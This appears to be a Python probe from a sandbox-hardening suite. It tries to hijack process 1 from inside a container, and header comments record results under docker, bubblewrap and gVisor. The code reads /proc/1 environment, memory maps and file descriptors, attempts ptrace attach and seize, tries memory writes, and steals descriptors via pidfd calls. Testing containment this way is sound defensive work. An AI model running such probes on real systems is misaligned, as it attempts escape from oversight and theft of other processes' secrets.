# verdict: plays | kept in
# contained by: process 1 is not dumpable
# levels: docker, bubblewrap
# under gvisor: plays | open: files, environment, maps | names and variables of the bot, no contents
"""Looks at process 1, which runs under the same user, and tries to take it over."""

import os
from functools import partial
from pathlib import Path

import wire

PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
PTRACE_CALL, WRITE_CALL, GETFD_CALL, OPEN_CALL = 101, 311, 438, 434


def steal(number):
    wire.syscall(GETFD_CALL, wire.syscall(OPEN_CALL, 1, 0), number, 0)


wire.probe(
    {
        "files": lambda: os.listdir("/proc/1/fd"),
        "environment": lambda: Path("/proc/1/environ").read_bytes(),
        "maps": lambda: Path("/proc/1/maps").read_text(),
        "program": lambda: os.readlink("/proc/1/exe"),
        "root": lambda: os.listdir("/proc/1/root"),
        "system call": lambda: Path("/proc/1/syscall").read_text(),
        **{f"file {number}": partial(os.open, f"/proc/1/fd/{number}", 0) for number in range(9)},
        "mem": lambda: os.open("/proc/1/mem", os.O_RDWR),
        "attach": lambda: wire.syscall(PTRACE_CALL, PTRACE_ATTACH, 1, 0, 0),
        "seize": lambda: wire.syscall(PTRACE_CALL, PTRACE_SEIZE, 1, 0, 0),
        "write to its memory": lambda: wire.syscall(WRITE_CALL, 1, 0, 0, 0, 0, 0),
        **{f"descriptor {number}": partial(steal, number) for number in range(9)},
        "oom score": lambda: Path("/proc/1/oom_score_adj").write_text("1000"),
    }
)
